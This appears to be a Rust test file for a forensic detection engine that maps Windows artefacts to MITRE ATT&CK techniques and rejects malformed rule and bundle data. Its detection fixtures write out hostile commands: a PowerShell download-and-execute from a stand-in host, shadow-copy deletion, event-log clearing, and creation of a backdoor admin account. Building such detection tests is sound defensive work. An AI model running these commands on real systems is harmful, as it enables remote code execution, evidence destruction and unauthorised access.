//! Tests which techniques a record's facts match, and which ATT&CK data is refused.

use detect::{Attack, AttackError, Level, RetiredBecause, TechniqueId, Trace};
use ledger::{FactEntry, FieldValue, Predicate, Time, Vocabulary};
use std::collections::{BTreeMap, BTreeSet};
use testkit::history::fact;

/// Makes a fact on a record of this type; the first field is the subject. A text that looks like an instant becomes one.
fn stated(kind: &str, predicate: &str, fields: &[(&str, &str)]) -> FactEntry {
    let mut stated = fact(1, 0, "", fields);
    for value in &mut stated.values {
        if let FieldValue::Text(text) = &value.value
            && let Some(ticks) = text.strip_prefix("filetime ")
        {
            value.value = FieldValue::Time(Time::from_filetime(ticks.parse().unwrap()));
        }
    }
    let subject = stated.values.remove(0);
    FactEntry { kind: kind.into(), predicate: Predicate(predicate.into()), subject, ..stated }
}

fn ids(attack: &Attack, fact: &FactEntry) -> Vec<String> {
    attack.techniques(&Trace::of_fact(fact)).into_iter().map(|technique| technique.id.to_string()).collect()
}

type Case = (&'static str, &'static str, &'static [(&'static str, &'static str)], &'static [&'static str]);

const RUN: &str = "ROOT\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater";
const SETHC: &str =
    "ROOT\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger";
const DENY: &str = "ROOT\\ControlSet001\\Control\\Terminal Server\\fDenyTSConnections";

#[rustfmt::skip]
const FIT: &[Case] = &[
    ("autostart", "persists", &[("value_path", RUN), ("command", "C:\\Users\\eva\\a.exe")], &["T1547.001"]),
    ("registry_value", "configured", &[("value_path", RUN), ("data", "C:\\Users\\eva\\a.exe")], &["T1547.001"]),
    ("startup_item", "persists", &[("name", "a.lnk"), ("path", "p1/x/Startup/a.lnk")], &["T1547.001"]),
    ("autostart", "persists", &[("value_path", SETHC), ("command", "cmd.exe")], &["T1546.008", "T1546.012"]),
    ("autostart", "persists", &[("value_path", "R\\Windows NT\\CurrentVersion\\Winlogon\\Userinit"), ("command", "C:\\x.exe,C:\\Windows\\system32\\userinit.exe,")], &["T1547.004"]),
    ("service", "persists", &[("name", "upd"), ("image_path", "C:\\Users\\Public\\upd.exe -k")], &["T1543.003"]),
    ("service", "persists", &[("name", "upd"), ("image_path", "C:\\Windows\\System32\\cmd.exe /c start x")], &["T1543.003"]),
    ("service_installed", "installed", &[("service_name", "PSEXESVC"), ("image_path", "%SystemRoot%\\PSEXESVC.exe")], &["T1543.003", "T1569.002"]),
    ("scheduled_task", "registered", &[("task", "\\Updater"), ("command", "C:\\ProgramData\\u.exe")], &["T1053.005"]),
    ("scheduled_task", "registered", &[("task", "\\Microsoft\\Windows\\Sync"), ("command", "C:\\Users\\Public\\u.exe")], &["T1053.005"]),
    ("scheduled_job", "registered", &[("job", "At1"), ("command", "c:\\a.bat")], &["T1053.002", "T1053.005"]),
    ("task_changed", "registered", &[("task", "\\Updater"), ("action", "registered")], &["T1053.005"]),
    ("wmi_binding", "registered", &[("consumer", "Updater"), ("filter", "Updater")], &["T1546.003"]),
    ("log_cleared", "cleared", &[("cleared", "Security")], &["T1685.005"]),
    ("stream", "present", &[("path", "p1/Users/eva/a.txt"), ("stream", "hidden.exe")], &["T1564.004"]),
    ("dir_entry", "present", &[("path", "p1/Users/eva/a.exe"), ("born", "filetime 131958720000000000"), ("name_born", "filetime 133485780301234567")], &["T1070.006"]),
    ("mft_file_entry", "present", &[("path", "/Users/eva/a.exe"), ("si_created", "filetime 131958720000000000"), ("fn_created", "filetime 133485780301234567")], &["T1070.006"]),
    ("timestomp_indicator", "recorded", &[("path", "p1/Users/eva/a.exe"), ("earlier", "true"), ("whole_seconds", "true")], &["T1070.006"]),
    ("deleted_entry", "deleted", &[("path", "p1/x"), ("original_path", "p1/Users/eva/Downloads/a.ps1")], &["T1070.004"]),
    ("usn_deleted", "deleted", &[("name", "Security.evtx")], &["T1070.004", "T1685.005"]),
    ("account_changed", "recorded", &[("account", "support"), ("action", "created")], &["T1136"]),
    ("account_changed", "recorded", &[("account", "support$"), ("action", "created"), ("by_account", "eva")], &["T1564.002"]),
    ("account_changed", "recorded", &[("account", "Guest"), ("action", "enabled")], &["T1078.001"]),
    ("group_member_added", "granted", &[("group", "Administrators"), ("member_sid", "S-1-5-21-1-2-3-1002")], &["T1098.007"]),
    ("registry_value", "configured", &[("value_path", DENY), ("data", "0")], &["T1021.001"]),
    ("security_setting", "configured", &[("setting", "remote_desktop"), ("state", "on")], &["T1021.001"]),
    ("rdp_session", "recorded", &[("account", "eva"), ("action", "logged on"), ("address", "10.1.2.3")], &["T1021.001"]),
    ("logon", "logged_on", &[("account", "eva"), ("logon_type", "10"), ("address", "10.1.2.3")], &["T1021.001"]),
    ("registry_value", "configured", &[("value_path", "R\\Winlogon\\SpecialAccounts\\UserList\\support"), ("data", "0")], &["T1564.002"]),
    ("logon_failed", "failed_logon", &[("account", "eva"), ("address", "10.1.2.3")], &["T1110"]),
    ("record_count", "counted", &[("source", "Security.evtx"), ("counted", "logon_failed"), ("count", "250")], &["T1110"]),
    ("share_access", "recorded", &[("share", "\\\\*\\ADMIN$"), ("address", "10.1.2.3")], &["T1021.002"]),
    ("hosts_entry", "configured", &[("name", "bank.example"), ("address", "10.1.2.3")], &["T1565.001"]),
    ("hosts_entry", "configured", &[("name", "www.virustotal.com"), ("address", "127.0.0.1")], &["T1565.001", "T1685"]),
    ("defender_changed", "configured", &[("product", "Microsoft Defender"), ("action", "real-time protection disabled")], &["T1685"]),
    ("defender_exclusion", "configured", &[("exclusion", "C:\\Temp")], &["T1564.012", "T1685"]),
    ("security_setting", "configured", &[("setting", "firewall_public"), ("state", "off")], &["T1686.003"]),
    ("bits_transfer", "recorded", &[("url", "https://files.example/a.exe"), ("action", "started")], &["T1197"]),
    ("usb_device", "connected", &[("device", "Disk&Ven_X&Prod_Y"), ("serial", "0")], &["T1052.001", "T1091"]),
    ("process_created", "executed", &[("image", "C:\\Windows\\System32\\whoami.exe"), ("command_line", "whoami /all")], &["T1033"]),
    ("process_created", "executed", &[("image", "C:\\x\\powershell.exe"), ("command_line", "powershell -nop -w hidden -enc SQBFAFgA")], &["T1027.010", "T1036.005", "T1059.001", "T1564.003"]),
    ("typed_command", "typed", &[("command", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')")], &["T1059.001", "T1105"]),
    ("process_created", "executed", &[("image", "C:\\Windows\\System32\\net.exe"), ("command_line", "net  user support P@ss /add")], &["T1136.001"]),
    ("process_created", "executed", &[("image", "C:\\Windows\\System32\\net.exe"), ("command_line", "net localgroup administrators support /add")], &["T1098.007"]),
    ("process_created", "executed", &[("image", "C:\\Windows\\System32\\wevtutil.exe"), ("command_line", "wevtutil.exe cl Security")], &["T1685.005"]),
    ("process_created", "executed", &[("image", "C:\\Windows\\System32\\vssadmin.exe"), ("command_line", "vssadmin delete shadows /all")], &["T1490"]),
    ("process_created", "executed", &[("image", "C:\\Windows\\System32\\at.exe"), ("command_line", "at  13:00 C:\\x.exe")], &["T1053.002"]),
    ("process_created", "executed", &[("image", "C:\\Windows\\System32\\wscript.exe"), ("command_line", "wscript.exe  C:\\Users\\Public\\a.js")], &["T1059.007"]),
    ("autostart", "persists", &[("value_path", RUN), ("command", "c:\\windows\\system32\\dllhost\\svchost.exe")], &["T1036.005", "T1547.001"]),
    ("dir_entry", "present", &[("path", "p1/ProgramData/Scan/svchost.exe"), ("size", "1")], &["T1036.005"]),
    ("prefetch", "executed", &[("executable", "PSEXESVC.EXE"), ("last_run", "2024-01-01T00:00:00Z")], &["T1021.002", "T1569.002"]),
    ("amcache_file", "recorded", &[("path", "c:\\tools\\mimikatz.exe")], &["T1003.001"]),
    ("defender_detection", "detected", &[("threat", "HackTool:Win32/Mimikatz.D"), ("path", "C:\\x.exe")], &["T1003"]),
    ("defender_detection", "detected", &[("threat", "Ransom:Win32/X"), ("path", "C:\\x.exe")], &["T1486"]),
];

/// What every computer has, or what says that nothing of the kind was done.
#[rustfmt::skip]
const ORDINARY: &[Case] = &[
    ("autostart", "persists", &[("value_path", RUN), ("command", "%windir%\\system32\\SecurityHealthSystray.exe")], &[]),
    ("autostart", "persists", &[("value_path", "R\\Windows NT\\CurrentVersion\\Winlogon\\Shell"), ("command", "explorer.exe")], &[]),
    ("autostart", "persists", &[("value_path", "R\\Control\\Session Manager\\BootExecute"), ("command", "autocheck autochk *")], &[]),
    ("service", "persists", &[("name", "Dhcp"), ("image_path", "%SystemRoot%\\system32\\svchost.exe -k LocalService")], &[]),
    ("service", "configured", &[("name", "upd"), ("image_path", "C:\\Users\\Public\\upd.exe")], &[]),
    ("service_installed", "installed", &[("service_name", "WdFilter"), ("image_path", "\\SystemRoot\\system32\\drivers\\wd\\WdFilter.sys")], &[]),
    ("scheduled_task", "registered", &[("task", "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"), ("command", "%windir%\\system32\\defrag.exe")], &[]),
    ("wmi_binding", "registered", &[("consumer", "SCM Event Log Consumer"), ("filter", "SCM Event Log Filter")], &[]),
    ("stream", "present", &[("path", "p1/a.exe"), ("stream", "Zone.Identifier")], &[]),
    ("dir_entry", "present", &[("path", "p1/Users/eva/a.exe"), ("born", "filetime 133485780301234567"), ("name_born", "filetime 131958720000000000")], &[]),
    ("deleted_entry", "deleted", &[("path", "p1/x"), ("original_path", "p1/Users/eva/Documents/a.docx")], &[]),
    ("deleted_entry", "present", &[("path", "p1/x"), ("original_path", "p1/Users/eva/Downloads/a.ps1")], &[]),
    ("account_changed", "recorded", &[("account", "ALDER-07$"), ("action", "changed")], &[]),
    ("group_member_added", "granted", &[("group", "Users"), ("member_sid", "S-1-5-4")], &[]),
    ("registry_value", "configured", &[("value_path", DENY), ("data", "1")], &[]),
    ("rdp_session", "recorded", &[("account", "eva"), ("action", "logged on"), ("address", "LOCAL")], &[]),
    ("logon", "logged_on", &[("account", "eva"), ("logon_type", "2")], &[]),
    ("logon_failed", "failed_logon", &[("account", "eva"), ("address", "127.0.0.1")], &[]),
    ("record_count", "counted", &[("source", "Security.evtx"), ("counted", "logon_failed"), ("count", "3")], &[]),
    ("hosts_entry", "configured", &[("name", "localhost"), ("address", "127.0.0.1")], &[]),
    ("defender_changed", "recorded", &[("product", "Microsoft Defender"), ("action", "real-time protection enabled")], &[]),
    ("bits_transfer", "recorded", &[("url", "https://download.windowsupdate.com/x"), ("action", "started")], &[]),
    ("usb_device", "connected", &[("device", "VID_046D&PID_C534"), ("serial", "5&1")], &[]),
    ("process_created", "executed", &[("image", "C:\\Windows\\System32\\svchost.exe"), ("command_line", "svchost.exe -k netsvcs")], &[]),
    ("amcache_file", "recorded", &[("path", "c:\\program files\\vmware\\vmware tools\\vmwaretoolboxcmd.exe")], &[]),
    ("account_changed", "recorded", &[("account", "Administrators"), ("action", "renamed"), ("by_account", "WIN-28GFHAGEV4P$")], &[]),
    ("autostart", "persists", &[("value_path", "R\\Windows NT\\CurrentVersion\\Winlogon\\Shell"), ("command", "%SystemRoot%\\explorer.exe")], &[]),
    ("process_created", "executed", &[("image", "C:\\Windows\\System32\\rundll32.exe"), ("command_line", "rundll32.exe shell32.dll,x")], &[]),
    ("process_created", "executed", &[("image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"), ("command_line", "powershell -file a.ps1 -e cmd.exe -v -p 80")], &[]),
    ("dir_entry", "present", &[("path", "p1/Windows/System32/svchost.exe"), ("size", "1")], &[]),
    ("prefetch", "executed", &[("executable", "CHROME.EXE"), ("last_run", "2024-01-01T00:00:00Z")], &[]),
    ("typed_command", "typed", &[("command", "Get-ChildItem")], &[]),
    ("defender_detection", "detected", &[("threat", "PUA:Win32/X"), ("path", "C:\\x.exe")], &[]),
    ("text_line", "quoted", &[("path", "notes.txt"), ("text", "vssadmin delete shadows")], &[]),
];

#[test]
fn a_trace_fits_all_techniques_that_leave_such_ones_and_no_others() {
    let attack = Attack::shipped().unwrap();
    let wrong: Vec<_> = FIT
        .iter()
        .chain(ORDINARY)
        .map(|(kind, predicate, fields, expected)| (stated(kind, predicate, fields), expected))
        .filter(|(fact, expected)| ids(&attack, fact) != **expected)
        .map(|(fact, expected)| {
            format!(
                "{} {}: {:?}, not {expected:?}",
                fact.kind,
                fact.subject.value.to_text(),
                ids(&attack, &fact)
            )
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn of_a_quotation_only_the_words_that_were_quoted_count() {
    let attack = Attack::shipped().unwrap();
    let mut fact = stated("typed_command", "quoted", &[("command", "cd x; wevtutil cl Security")]);
    assert_eq!(ids(&attack, &fact), ["T1685.005"]);
    fact.subject.quotation = Some("cd x".into());
    assert!(ids(&attack, &fact).is_empty());
}

#[test]
fn of_a_list_one_item_is_enough() {
    let attack = Attack::shipped().unwrap();
    let mut fact = stated(
        "hosts_entry",
        "configured",
        &[("name", "a.example"), ("address", "127.0.0.1"), ("names", "")],
    );
    fact.values[1].value = FieldValue::List(vec!["a.example".into(), "update.eset.com".into()]);
    assert_eq!(ids(&attack, &fact), ["T1565.001", "T1685"]);
}

#[test]
fn a_reason_is_told_with_each_technique() {
    let attack = Attack::shipped().unwrap();
    let fact = stated("log_cleared", "cleared", &[("cleared", "Security")]);
    let [hit] = &attack.hits(&Trace::of_fact(&fact))[..] else { panic!("one rule") };
    assert_eq!(
        (hit.rule, hit.level, hit.note),
        ("log-cleared", Level::High, "somebody cleared an event log")
    );
    let tactics: Vec<_> = attack.tactics_of(hit.techniques[0]).map(|tactic| tactic.name.as_str()).collect();
    assert_eq!(tactics, ["Defense Impairment"]);
}

#[test]
fn a_long_value_is_looked_at_up_to_the_length_of_a_command_line() {
    let attack = Attack::shipped().unwrap();
    let line = |padding: usize| format!("{} & wevtutil cl System", "é".repeat(padding));
    let near = stated("process_created", "executed", &[("command_line", line(1000).as_str())]);
    let far = stated("process_created", "executed", &[("command_line", line(40_000).as_str())]);
    assert_eq!(ids(&attack, &near), ["T1685.005"]);
    assert!(ids(&attack, &far).is_empty());
}

/// Data with two tactics and one rule.
const SMALL: &str = r#"
version = "1.0"
source = "a test"
matrix = ["TA0002", "TA0001"]
[tactic.TA0001]
name = "One"
shortname = "one"
[tactic.TA0002]
name = "Two"
shortname = "two"
[technique."T0001"]
name = "First"
tactics = ["TA0001", "TA0002"]
[technique."T0002.001"]
name = "Second"
tactics = ["TA0001"]
[list]
keys = ["*Run*"]
[[rule]]
id = "key"
level = "low"
note = "a key"
techniques = ["T0002.001", "T0001"]
record = "registry_value"
when = { value_path = ["@keys"] }
"#;

#[test]
fn the_tactics_of_a_technique_are_in_the_order_of_the_matrix() {
    let attack = Attack::from_toml(SMALL).unwrap();
    let first = attack.technique(&TechniqueId::new("T0001").unwrap()).unwrap();
    let names =
        |technique| attack.tactics_of(technique).map(|tactic| tactic.name.as_str()).collect::<Vec<_>>();
    assert_eq!(names(first), ["Two", "One"]);
    assert_eq!(
        ids(&attack, &stated("registry_value", "configured", &[("value_path", "x\\Run\\y")])),
        ["T0001", "T0002.001"]
    );
}

#[test]
fn data_that_does_not_hang_together_is_refused() {
    type Refusal = fn(&AttackError) -> bool;
    let cases: [(&str, &str, Refusal); 12] = [
        ("tactics = [\"TA0001\"]", "tactics = [\"TA0009\"]", |e| {
            matches!(e, AttackError::UnknownTactic { .. })
        }),
        ("tactics = [\"TA0001\"]", "tactics = [\"TA0001\", \"TA0001\"]", |e| {
            matches!(e, AttackError::Twice { .. })
        }),
        ("[\"T0002.001\", \"T0001\"]", "[\"T0003\"]", |e| matches!(e, AttackError::UnknownTechnique { .. })),
        ("[\"T0002.001\", \"T0001\"]", "[\"T0001\", \"T0001\"]", |e| matches!(e, AttackError::Twice { .. })),
        ("[\"T0002.001\", \"T0001\"]", "[]", |e| {
            matches!(e, AttackError::EmptyRule { lacks: "technique", .. })
        }),
        ("[\"T0002.001\", \"T0001\"]", "[\"T1\"]", |e| matches!(e, AttackError::Read(_))),
        ("\"@keys\"", "\"@key\"", |e| matches!(e, AttackError::UnknownList { .. })),
        ("[\"TA0002\", \"TA0001\"]\n", "[\"TA0002\"]\n", |e| matches!(e, AttackError::Matrix { .. })),
        ("[\"TA0002\", \"TA0001\"]\n", "[\"TA0002\", \"TA0001\", \"TA0002\"]\n", |e| {
            matches!(e, AttackError::Matrix { .. })
        }),
        ("shortname = \"two\"", "shortname = \"one\"", |e| matches!(e, AttackError::Twice { .. })),
        ("[technique.\"T0002.001\"]", "[technique.\"T0001\"]", |e| matches!(e, AttackError::Read(_))),
        ("when = {", "wenn = {", |e| matches!(e, AttackError::Read(_))),
    ];
    for (from, to, refused) in cases {
        let broken = SMALL.replacen(from, to, 1);
        assert_ne!(broken, SMALL, "{from}");
        let error = Attack::from_toml(&broken).unwrap_err();
        assert!(refused(&error), "{from} -> {to}: {error:?}");
    }
}

/// The shipped files, in order.
const DATA: [&str; 9] = [
    include_str!("../../data/attack.toml"),
    include_str!("../../data/lists.toml"),
    include_str!("../../data/traces.toml"),
    include_str!("../../data/commands.toml"),
    include_str!("../../data/behaviour.toml"),
    include_str!("../../data/settings.toml"),
    include_str!("../../data/network.toml"),
    include_str!("../../data/baseline.toml"),
    include_str!("../../data/ordinary.toml"),
];

/// Returns the shipped data, with its rules as TOML.
pub(crate) fn rules() -> (toml::Table, Vec<toml::Value>) {
    let table: toml::Table = toml::from_str(&DATA.concat()).unwrap();
    let rules = table["rule"].as_array().unwrap().clone();
    (table, rules)
}

/// Returns the texts of a rule's member, with lists expanded.
fn texts(table: &toml::Table, value: &toml::Value) -> Vec<String> {
    let one = |text: &str| match text.strip_prefix('@') {
        Some(list) => {
            table["list"][list].as_array().unwrap().iter().map(|it| it.as_str().unwrap().to_owned()).collect()
        }
        None => vec![text.to_owned()],
    };
    match value.as_array() {
        Some(items) => items.iter().flat_map(|item| one(item.as_str().unwrap())).collect(),
        None => one(value.as_str().unwrap()),
    }
}

#[test]
fn every_rule_is_over_record_types_fields_and_predicates_that_there_are() {
    let (table, rules) = rules();
    let vocabulary = Vocabulary::shipped().unwrap();
    let catalogue: serde_json::Value =
        serde_json::from_str(include_str!("../../../tools/tests/catalogue.json")).unwrap();
    let mut fields: BTreeMap<&str, BTreeSet<&str>> = BTreeMap::new();
    for record in catalogue.as_array().unwrap().iter().flat_map(|tool| tool["records"].as_array().unwrap()) {
        let names = record["fields"].as_object().unwrap().keys().map(String::as_str);
        fields.entry(record["name"].as_str().unwrap()).or_default().extend(names);
    }
    let mut wrong = Vec::new();
    for rule in &rules {
        let note = rule["note"].as_str().unwrap();
        let records = texts(&table, &rule["record"]);
        let provable: BTreeSet<&str> = records
            .iter()
            .flat_map(|kind| vocabulary.proved_by(kind))
            .map(|predicate| predicate.0.as_str())
            .collect();
        wrong.extend(
            records
                .iter()
                .filter(|kind| !fields.contains_key(kind.as_str()))
                .map(|kind| format!("{note}: record {kind}")),
        );
        for predicate in rule.get("predicate").map(|it| texts(&table, it)).unwrap_or_default() {
            if !provable.contains(predicate.as_str()) {
                wrong.push(format!("{note}: predicate {predicate}"));
            }
        }
        for (member, all) in [("when", true), ("unless", false)] {
            let Some(asked) = rule.get(member).and_then(toml::Value::as_table) else { continue };
            for key in asked.keys() {
                let named = texts(&table, &toml::Value::String(key.clone()));
                let has = |kind: &String| {
                    fields.get(kind.as_str()).is_some_and(|fields| {
                        fields.iter().any(|field| named.iter().any(|name| ledger::pattern::fits(name, field)))
                    })
                };
                let is_known = if all { records.iter().all(has) } else { records.iter().any(has) };
                if !is_known {
                    wrong.push(format!("{note}: {member} {key}"));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn no_technique_and_no_list_of_the_data_is_idle() {
    let (table, rules) = rules();
    let named: BTreeSet<&str> = rules
        .iter()
        .flat_map(|rule| rule["techniques"].as_array().unwrap())
        .map(|id| id.as_str().unwrap())
        .collect();
    let known: BTreeSet<&str> = table["technique"].as_table().unwrap().keys().map(String::as_str).collect();
    assert_eq!(named, known);
    let ordinary = table["ordinary"].as_array().unwrap();
    let text = rules.iter().chain(ordinary).map(ToString::to_string).collect::<String>();
    for list in table["list"].as_table().unwrap().keys() {
        assert!(text.contains(&format!("@{list}\"")), "{list}");
    }
}

/// Returns a bundle that continues the data of [`SMALL`]: `T0001` has another name and tactic.
/// `T0002.001` was revoked, through two other techniques, in favour of `T0005`.
fn bundle() -> serde_json::Value {
    let pattern = |id: &str, name: &str, phases: &[&str], more: serde_json::Value| {
        let mut object = serde_json::json!({
            "type": "attack-pattern", "id": format!("attack-pattern--{id}"), "name": name, "description": "…",
            "external_references": [
                {"source_name": "capec", "external_id": "CAPEC-1"},
                {"source_name": "mitre-attack", "external_id": id, "url": "https://attack.mitre.org/"},
            ],
            "kill_chain_phases": phases.iter()
                .map(|phase| serde_json::json!({"kill_chain_name": "mitre-attack", "phase_name": phase}))
                .collect::<Vec<_>>(),
        });
        object.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        object
    };
    let tactic = |id: &str, name: &str, short: &str| {
        serde_json::json!({
            "type": "x-mitre-tactic", "id": format!("x-mitre-tactic--{id}"), "name": name, "x_mitre_shortname": short,
            "external_references": [{"source_name": "mitre-attack", "external_id": id}],
        })
    };
    let revoked = |from: &str, to: &str| {
        serde_json::json!({
            "type": "relationship", "id": format!("relationship--{from}"), "relationship_type": "revoked-by",
            "source_ref": format!("attack-pattern--{from}"), "target_ref": format!("attack-pattern--{to}"),
        })
    };
    let none = serde_json::json!({});
    let gone = serde_json::json!({"revoked": true});
    serde_json::json!({"type": "bundle", "id": "bundle--1", "objects": [
        {"type": "x-mitre-collection", "id": "x-mitre-collection--1", "name": "Enterprise", "x_mitre_version": "99.1"},
        {"type": "x-mitre-matrix", "id": "x-mitre-matrix--1", "name": "Enterprise",
         "external_references": [{"source_name": "mitre-attack", "external_id": "enterprise-attack"}],
         "tactic_refs": ["x-mitre-tactic--TA0007", "x-mitre-tactic--TA0001"]},
        tactic("TA0001", "Uno", "one"),
        tactic("TA0007", "Seven", "seven"),
        pattern("T0001", "Renamed", &["one", "seven"], none.clone()),
        pattern("T0002.001", "Second", &["one"], gone.clone()),
        pattern("T0004", "Between", &["one"], gone),
        pattern("T0005", "Successor", &["seven"], none),
        revoked("T0002.001", "T0004"),
        revoked("T0004", "T0005"),
    ]})
}

#[test]
fn a_newer_bundle_brings_its_version_tactics_and_names() {
    let attack = Attack::read(SMALL, &bundle().to_string()).unwrap();
    assert_eq!(attack.version(), "99.1");
    let names =
        |technique| attack.tactics_of(technique).map(|tactic| tactic.name.as_str()).collect::<Vec<_>>();
    let key = stated("registry_value", "configured", &[("value_path", "x\\Run\\y")]);
    let told: Vec<_> = attack
        .techniques(&Trace::of_fact(&key))
        .into_iter()
        .map(|it| (it.id.to_string(), it.name.clone(), names(it)))
        .collect();
    assert_eq!(
        told,
        [
            ("T0001".to_owned(), "Renamed".to_owned(), vec!["Seven", "Uno"]),
            ("T0005".to_owned(), "Successor".to_owned(), vec!["Seven"]),
        ]
    );
    let [retired] = attack.retired() else { panic!("one") };
    assert_eq!((retired.id.as_str(), retired.name.as_str()), ("T0002.001", "Second"));
    assert_eq!(retired.because, RetiredBecause::RevokedBy(TechniqueId::new("T0005").unwrap()));
}

#[test]
fn what_a_bundle_revokes_deprecates_or_lacks_is_told_and_fits_nothing() {
    type Change = fn(&mut Vec<serde_json::Value>);
    let cases: [(Change, RetiredBecause); 4] = [
        // The relations form a circle.
        (|objects| objects[9]["target_ref"] = "attack-pattern--T0002.001".into(), RetiredBecause::Revoked),
        (|objects| objects.truncate(8), RetiredBecause::Revoked),
        (
            |objects| {
                objects[5]["revoked"] = false.into();
                objects[5]["x_mitre_deprecated"] = true.into();
            },
            RetiredBecause::Deprecated,
        ),
        (|objects| drop(objects.remove(5)), RetiredBecause::Absent),
    ];
    for (change, because) in cases {
        let mut bundle = bundle();
        change(bundle["objects"].as_array_mut().unwrap());
        let attack = Attack::read(SMALL, &bundle.to_string()).unwrap();
        let [retired] = attack.retired() else { panic!("one") };
        assert_eq!(retired.because, because);
        assert_eq!(
            ids(&attack, &stated("registry_value", "configured", &[("value_path", "x\\Run\\y")])),
            ["T0001"]
        );
    }
}

#[test]
fn a_bundle_that_cannot_take_the_names_place_is_refused() {
    for (from, to) in [
        ("\"type\":\"x-mitre-collection\"", "\"type\":\"x-other\""),
        ("\"enterprise-attack\"", "\"mobile-attack\""),
        ("\"x-mitre-tactic--TA0007\",", "\"x-mitre-tactic--TA0008\","),
        ("\"phase_name\":\"seven\"", "\"phase_name\":\"eight\""),
        ("\"objects\"", "\"object\""),
    ] {
        let text = bundle().to_string();
        let broken = text.replacen(from, to, 1);
        assert_ne!(text, broken, "{from}");
        assert!(Attack::read(SMALL, &broken).is_err(), "{from} -> {to}");
    }
    assert!(matches!(Attack::read(SMALL, "PK\u{3}\u{4}"), Err(AttackError::ReadBundle(_))));
}
